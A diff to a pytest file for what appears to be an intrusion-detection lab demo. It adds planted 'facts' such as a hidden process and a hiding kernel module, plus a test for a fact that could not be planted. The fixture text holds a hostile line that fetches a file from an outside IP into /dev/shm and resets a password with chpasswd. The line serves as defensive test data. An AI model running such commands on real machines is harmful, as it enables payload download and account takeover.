@@ -19,12 +19,15 @@ TRUTH = json.dumps(
         {"fact": "forged-name", "process": "kworker/1:2", "path": "/var/tmp/.0ac793/packfeed"},
         {"fact": "io-burst", "process": "statwrk", "file": "/var/lib/mailwrk/outbox-5f27.bin"},
         {"fact": "oom-kill", "victim": "usagewrk"},
+        {"fact": "hidden-process", "process": "nodepipe", "path": "/usr/local/sbin/nodepipe"},
+        {"fact": "hidden-module", "module": "mailguard"},
     ]
 ).encode()
 WORDS = """.usagectl runs from /dev/shm/.usagectl with rc-00ff. storewrk listens on 23493.
 curl -fso /dev/shm/x http://198.51.
 100.68/x echo 'a:b' | chpasswd
-kworker/1:2 is /var/tmp/.0ac793/packfeed. statwrk wrote /var/lib/mailwrk/outbox-5f27.bin. usagewrk was killed."""
+kworker/1:2 is /var/tmp/.0ac793/packfeed. statwrk wrote /var/lib/mailwrk/outbox-5f27.bin. usagewrk was killed.
+/usr/local/sbin/nodepipe is kept out of what ps lists. The kernel module mailguard hides."""
 
 
 def figures(name: str, row: str, value: float | str) -> Table:
@@ -53,6 +56,13 @@ def test_a_fact_that_was_not_planted_fails_the_demo() -> None:
         with pytest.raises(StageFailed) as raised:
             demo.check(truth, WORDS, tables())
         assert raised.value.why == f"{fact}: it was not planted, and so cannot be shown"
+
+
+def test_a_fact_that_the_lab_could_not_plant_fails_the_demo_with_its_reason() -> None:
+    kept = [one for one in json.loads(TRUTH) if one["fact"] != "hidden-module"]
+    kept.append({"fact": "not-planted", "rule": "hidden-module", "why": "signed modules only"})
+    with pytest.raises(StageFailed, match="signed modules only"):
+        demo.check(json.dumps(kept).encode(), WORDS, tables())
 
 
 def test_too_few_events_or_tests_fail_the_demo() -> None:
